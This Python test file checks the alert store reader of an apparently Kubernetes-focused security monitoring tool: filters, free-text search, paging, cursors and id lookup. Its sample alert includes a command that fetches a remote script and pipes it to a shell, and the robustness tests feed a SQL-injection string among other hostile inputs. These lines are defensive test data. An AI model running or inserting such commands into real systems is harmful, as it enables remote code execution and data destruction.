"""Reading the store: filters, searches by any part, pages, ids, whatever people type."""

import asyncio
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import apsw
import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sinks.store import AlertFilter, StoreReader, StoreSettings, StoreSink
from vedette.runtime.sink_context import SinkContext
from vedette.schema.errors import ConfigError
from vedette.schema.event import Facts
from vedette.schema.level import Level
from vedette.schema.limits import SECOND_NS
from vedette.schema.rule import RuleInfo
from vedette.testing.sinks import HOSTILE, OPENED_NS, StandingClock, sample_revision

NGINX = Facts(
    actor="system:serviceaccount:shop:deployer",
    namespace="shop",
    pod="nginx-7d4f9c6b5-x2x9z",
    container="web",
    images=("registry.example.com/team/nginx:1.27@sha256:" + "ab" * 32,),
    command="curl -s http://198.51.100.7/Payload.sh | sh",
    sources=("10.0.3.7",),
)
FLOW = Facts(actor="", action="ACCEPT", sources=("10.0.3.77",), destinations=("2001:db8::17",), destination_port=3333)
ADMIN = Facts(
    actor="Jürgen", action="delete", resource="secrets", namespace="kube-system", name="db-password", node="n1"
)

REVISIONS = [
    sample_revision(1, facts=NGINX, rule=RuleInfo("r-1", "Shell In A Pod", Level.HIGH)),
    sample_revision(2, facts=FLOW, rule=RuleInfo("r-2", "Egress To A Mining Pool", Level.CRITICAL)),
    sample_revision(3, facts=ADMIN, rule=RuleInfo("r-3", "Secret Deleted", Level.LOW)),
]


async def _fill(folder: Path, revisions: list[Any]) -> None:
    sink = StoreSink("store", StoreSettings(), SinkContext(folder, StandingClock()))
    await sink.start()
    assert list(await sink.deliver(revisions)) == [None] * len(revisions)
    await sink.stop()


@pytest.fixture(scope="module")
def reader(tmp_path_factory: pytest.TempPathFactory) -> Iterator[StoreReader]:
    folder = tmp_path_factory.mktemp("store")
    asyncio.run(_fill(folder, REVISIONS))
    reader = StoreReader(folder / "store.db")
    yield reader
    reader.close()


def numbers(reader: StoreReader, **wanted: Any) -> list[int]:
    return [int(row.alert_id, 16) for row in reader.list(AlertFilter(**wanted))]


@pytest.mark.parametrize(
    ("wanted", "expected"),
    [
        pytest.param({}, [3, 2, 1], id="all, newest first"),
        pytest.param({"since_ns": OPENED_NS + 2 * SECOND_NS}, [3, 2], id="since, inclusive"),
        pytest.param({"until_ns": OPENED_NS + 2 * SECOND_NS}, [1], id="until, exclusive"),
        pytest.param({"min_level": Level.HIGH}, [2, 1], id="level"),
        pytest.param({"rule": "r-2"}, [2], id="rule by id"),
        pytest.param({"rule": "Secret Deleted"}, [3], id="rule by title"),
        pytest.param({"cluster": "test"}, [3, 2, 1], id="cluster"),
        pytest.param({"cluster": "tes"}, [], id="cluster in part"),
        pytest.param({"status": "New"}, [3, 2, 1], id="status"),
        pytest.param({"status": "Resolved"}, [], id="another status"),
        pytest.param({"namespace": "shop"}, [1], id="namespace"),
        pytest.param({"actor": "Jürgen"}, [3], id="actor"),
        pytest.param({"actor": "Jürgen", "min_level": Level.HIGH}, [], id="all must hold"),
        pytest.param({"actor": ""}, [2], id="no actor"),
        pytest.param({"actor": "\udcff"}, [], id="stray bytes"),
    ],
)
def test_filters(reader: StoreReader, wanted: dict[str, Any], expected: list[int]) -> None:
    assert numbers(reader, **wanted) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("nginx-7d4f", [1], id="pod in part"),
        pytest.param("7d4f9c6b5-x2", [1], id="pod from the middle"),
        pytest.param("NGINX", [1], id="any case"),
        pytest.param("jürg", [3], id="beyond ASCII"),
        pytest.param("10.0.3.7", [2, 1], id="address in part"),
        pytest.param("10.0.3.77", [2], id="address"),
        pytest.param("0.3.7", [2, 1], id="address from the middle"),
        pytest.param("2001:db8::17", [2], id="IPv6"),
        pytest.param("system:serviceaccount:shop:deployer", [1], id="service account"),
        pytest.param("serviceaccount:shop", [1], id="service account in part"),
        pytest.param("example.com/team", [1], id="image"),
        pytest.param("sha256:abab", [1], id="digest"),
        pytest.param("payload.sh | sh", [1], id="command"),
        pytest.param("mining 3.77", [2], id="words in any field"),
        pytest.param("mining curl", [], id="words of different alerts"),
        pytest.param("r-3", [3], id="rule id"),
        pytest.param("secrets db-password", [3], id="object"),
        pytest.param("n1", [], id="too short for what lists do not show"),
        pytest.param("Jü", [3], id="short words look into what lists show"),
        pytest.param("in", [3, 2, 1], id="short word"),
        pytest.param("   ", [3, 2, 1], id="nothing"),
        pytest.param("shop OR mining", [], id="no operators: or"),
        pytest.param("title:shop", [], id="no operators: column"),
        pytest.param("shop*", [], id="no operators: prefix"),
        pytest.param("%%%", [], id="no patterns"),
    ],
)
def test_searches_find_any_part(reader: StoreReader, text: str, expected: list[int]) -> None:
    assert numbers(reader, text=text) == expected


@pytest.mark.parametrize(
    "text",
    [
        '"',
        '"""',
        "NEAR(a b, 3)",
        "AND",
        "NOT NOT",
        "{title}: ^a",
        "-shop",
        "(((",
        "a\x00bcd",
        "\x00\x00\x00",
        "\ud800\ud800\ud800",
        "'; DROP TABLE alert; --",
        "x" * 1_000_000,
        "word " * 100_000,
        *HOSTILE.values(),
    ],
    ids=lambda text: repr(text[:20]),
)
def test_no_search_fails(reader: StoreReader, text: str) -> None:
    assert len(reader.list(AlertFilter(text=text))) <= len(REVISIONS)


@given(text=st.text(st.characters(exclude_categories=()), max_size=40), field=st.text(max_size=10))
def test_no_words_fail(reader: StoreReader, text: str, field: str) -> None:
    reader.list(AlertFilter(text=text, actor=field, rule=text))


async def test_hostile_strings_can_be_searched_for(tmp_path: Path) -> None:
    await _fill(
        tmp_path,
        [sample_revision(n, facts=Facts(actor=text, command=text)) for n, text in enumerate(HOSTILE.values(), 1)],
    )
    reader = StoreReader(tmp_path / "store.db")
    for number, text in enumerate(HOSTILE.values(), 1):
        word = max(text.replace("\x00", " ").split(), key=len)[:200]
        assert number in numbers(reader, text=word), word
    reader.close()


def test_pages_join_without_gap_or_repeat(reader: StoreReader) -> None:
    first = reader.list(limit=2)
    rest = reader.list(AlertFilter(after=first[-1].cursor), limit=2)
    assert first + rest == reader.list()
    assert reader.list(AlertFilter(after=rest[-1].cursor)) == []


@pytest.mark.parametrize("cursor", ["x", "1", "1-2-3", "-", "1-x", "\ud800"])
def test_a_cursor_is_checked(reader: StoreReader, cursor: str) -> None:
    with pytest.raises(ConfigError, match="is no cursor"):
        reader.list(AlertFilter(after=cursor))


@pytest.mark.parametrize("length", [32, 31], ids=["whole", "unique beginning"])
def test_an_alert_is_named_by_its_id(reader: StoreReader, length: int) -> None:
    whole = f"{1:032x}"
    if length == 32:
        assert reader.get(whole)["finding_info"]["uid"] == whole
    else:
        with pytest.raises(ConfigError, match=f"several alerts.*{whole}.*Give more"):
            reader.get(whole[:length])


async def test_a_beginning_that_is_unique_will_do(tmp_path: Path) -> None:
    await _fill(tmp_path, [sample_revision(n)._replace(alert_id=f"a{n}" * 16) for n in (1, 2)])
    reader = StoreReader(tmp_path / "store.db")
    assert reader.get("a2")["finding_info"]["uid"] == f"{2:032x}"
    with pytest.raises(ConfigError, match="several"):
        reader.get("a")
    reader.close()


@pytest.mark.parametrize("alert_id", ["", "ffff", "%", "0" * 33, "\ud800", "'; --"])
def test_an_unknown_id_is_told(reader: StoreReader, alert_id: str) -> None:
    with pytest.raises(ConfigError, match="no alert has an id"):
        reader.get(alert_id)


def test_counts(reader: StoreReader) -> None:
    counts = reader.counts()
    assert counts.total == 3
    assert list(counts.by_level.items()) == [
        (Level.CRITICAL, 1),
        (Level.HIGH, 1),
        (Level.MEDIUM, 0),
        (Level.LOW, 1),
        (Level.INFORMATIONAL, 0),
    ]
    assert counts.by_status == {"New": 3}


def test_rows_become_json(reader: StoreReader) -> None:
    assert msgspec.json.decode(msgspec.json.encode(reader.list()[0]))["level"] == "low"


def test_a_reader_changes_nothing(reader: StoreReader) -> None:
    with pytest.raises(apsw.ReadOnlyError):
        reader._connection.execute("DELETE FROM alert")


def test_no_store_is_told_with_a_remedy(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="there is no store at"):
        StoreReader(tmp_path / "store.db")


async def test_a_reader_sees_what_is_written_beside_it(tmp_path: Path) -> None:
    sink = StoreSink("store", StoreSettings(), SinkContext(tmp_path, StandingClock()))
    await sink.start()
    reader = StoreReader(tmp_path / "store.db")
    assert reader.list() == []
    await sink.deliver([sample_revision()])
    assert len(reader.list()) == 1
    reader.close()
    await sink.stop()
